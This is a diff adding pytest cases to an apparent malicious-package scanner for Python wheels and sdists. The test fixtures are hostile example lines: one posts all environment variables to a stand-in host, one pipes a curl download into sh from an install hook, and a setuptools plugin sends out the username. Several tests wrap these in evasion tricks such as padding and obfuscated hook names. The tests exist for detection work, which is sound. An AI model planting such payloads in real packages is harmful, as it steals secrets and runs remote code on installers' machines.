@@ -212,3 +212,135 @@ def test_every_rule_has_a_family_a_title_and_a_severity() -> None:
     for rule in table.values():
         assert rule.title and rule.family
         assert any(rule.severity(p) for p in Phase)
+
+
+_EXFIL = (
+    "import os, json, urllib.request\n"
+    "urllib.request.urlopen('https://example.invalid/e', data=json.dumps(dict(os.environ)).encode())\n"
+)
+
+
+@pytest.mark.parametrize(
+    "newer",
+    [
+        "type Cfg = dict[str, str]\n",
+        "def first[T](items: list[T]) -> T:\n    return items[0]\n",
+        "class Box[T]:\n    pass\n",
+        "try:\n    pass\nexcept ValueError, TypeError:\n    pass\n",
+    ],
+)
+def test_syntax_newer_than_the_analyser_is_respelled_and_analysed(
+    tmp_path: Path, newer: str
+) -> None:
+    found = _wheel(tmp_path, {"demo/core.py": newer + _EXFIL})
+    assert ("exfil-credentials", "demo/core.py", len(newer.splitlines()) + 2) in _rules(found)
+
+
+def test_what_does_not_parse_is_set_aside_and_fails_closed_where_it_runs(tmp_path: Path) -> None:
+    # a PEP 701 f-string (3.12) the 3.11 parser rejects: the line is not read, the rest is
+    source = "x = f'{'nested'}'\n" + _EXFIL
+    found = _wheel(tmp_path / "a", {"demo/core.py": source})
+    assert ("exfil-credentials", "demo/core.py", 3) in _rules(found)
+    assert ("unparsable", "demo/core.py", 0) in _rules(found)
+    (unread,) = [f for f in found if f.rule == "unparsable"]
+    assert "1 statement(s) not read (line 1)" in unread.message
+    # run only when called (a wheel's test module): reported, not refused
+    in_tests = _wheel(tmp_path / "b", {"demo/tests/test_x.py": "x = f'{'nested'}'\n"})
+    assert [(f.rule, f.severity) for f in in_tests if f.rule == "unparsable"] == [
+        ("unparsable", "medium")
+    ]
+
+
+def test_python2_sources_are_low_since_python3_cannot_run_them(tmp_path: Path) -> None:
+    found = _wheel(tmp_path, {"demo/old.py": "import os\nprint 'hello'\nexec 'x = 1'\n"})
+    assert [(f.rule, f.severity) for f in found if f.rule.startswith("unparsable")] == [
+        ("unparsable-python2", "low")
+    ]
+
+
+def test_padding_past_the_size_limit_is_set_aside_and_dense_code_fails_closed(
+    tmp_path: Path,
+) -> None:
+    padding = "# " + "x" * 78 + "\n"
+    padded = _EXFIL + padding * (5 * 1024 * 1024 // len(padding))
+    found = _wheel(tmp_path / "a", {"demo/core.py": padded})
+    assert ("exfil-credentials", "demo/core.py", 2) in _rules(found)
+    dense = _EXFIL + "x = 1\n" * (5 * 1024 * 1024 // 6)
+    found = _wheel(tmp_path / "b", {"demo/core.py": dense})
+    assert ("unanalysed", "demo/core.py", 0) in _rules(found)
+
+
+def test_a_module_nested_as_deep_as_cpython_compiles_is_analysed(tmp_path: Path) -> None:
+    source = "x = " + "+".join(["1"] * 990) + "\n" + _EXFIL
+    found = _wheel(tmp_path, {"demo/core.py": source})
+    assert ("exfil-credentials", "demo/core.py", 3) in _rules(found)
+    assert not [f for f in found if f.rule == "unanalysed"]
+
+
+_CURL = "import os\n\nclass Install:\n    def run(self):\n        os.system('curl -s https://example.invalid/x | sh')\n"
+
+
+def test_cmdclass_classes_from_the_sdists_own_modules_run_at_install(tmp_path: Path) -> None:
+    imported = {
+        "setup.py": "from setuptools import setup\nimport helpers as h\n"
+        "cmds = {}\ncmds['in' + 'stall'] = h.Install\nsetup(cmdclass=cmds)\n",
+        "helpers/__init__.py": "from ._cmd import Install\n",
+        "helpers/_cmd.py": _CURL,
+    }
+    found = _sdist(tmp_path / "a", imported)
+    assert ("process-download", "helpers/_cmd.py", 5) in _rules(found)
+    configured = {
+        "setup.py": "from setuptools import setup\nsetup()\n",
+        "setup.cfg": "[options.cmdclass]\ninstall = cmds.Install\n",
+        "cmds.py": _CURL,
+    }
+    found = _sdist(tmp_path / "b", configured)
+    assert ("process-download", "cmds.py", 5) in _rules(found)
+    assert ("build-hook", "setup.cfg", 0) in _rules(found, "low")
+
+
+def test_a_package_module_imported_by_setup_py_keeps_runtime_functions(tmp_path: Path) -> None:
+    files = {
+        "setup.py": "from setuptools import setup\nfrom demo import __version__\nsetup()\n",
+        "demo/core.py": "__version__ = '1.0'\n",
+        "demo/tool.py": _CURL,
+    }
+    assert not _rules(_sdist(tmp_path, files))
+
+
+def test_sitecustomize_and_usercustomize_at_the_top_run_at_start_up(tmp_path: Path) -> None:
+    spawn = "import subprocess\nsubprocess.Popen(['true'])\n"
+    found = _wheel(tmp_path, {"usercustomize.py": spawn, "demo/sitecustomize.py": spawn})
+    assert ("process-spawn", "usercustomize.py", 2) in _rules(found)
+    assert {(f.file, f.phase) for f in found if f.rule == "process-spawn"} == {
+        ("usercustomize.py", Phase.STARTUP),
+        ("demo/sitecustomize.py", Phase.IMPORT),
+    }
+
+
+def test_setuptools_plugin_entry_points_run_in_every_later_build(tmp_path: Path) -> None:
+    hook = (
+        "import getpass, urllib.request\n\n"
+        "def finalize(dist):\n"
+        "    urllib.request.urlopen('https://example.invalid/?u=' + getpass.getuser())\n"
+    )
+    points = "[setuptools.finalize_distribution_options]\nx = demo.hook:finalize\n"
+    found = _wheel(
+        tmp_path / "a",
+        {
+            "demo/core.py": "",
+            "demo/hook.py": hook,
+            "demo-1.0.dist-info/entry_points.txt": points,
+        },
+    )
+    assert ("exfil-host", "demo/hook.py", 4) in _rules(found)
+    as_script = points.replace("setuptools.finalize_distribution_options", "console_scripts")
+    found = _wheel(
+        tmp_path / "b",
+        {
+            "demo/core.py": "",
+            "demo/hook.py": hook,
+            "demo-1.0.dist-info/entry_points.txt": as_script,
+        },
+    )
+    assert not _rules(found)
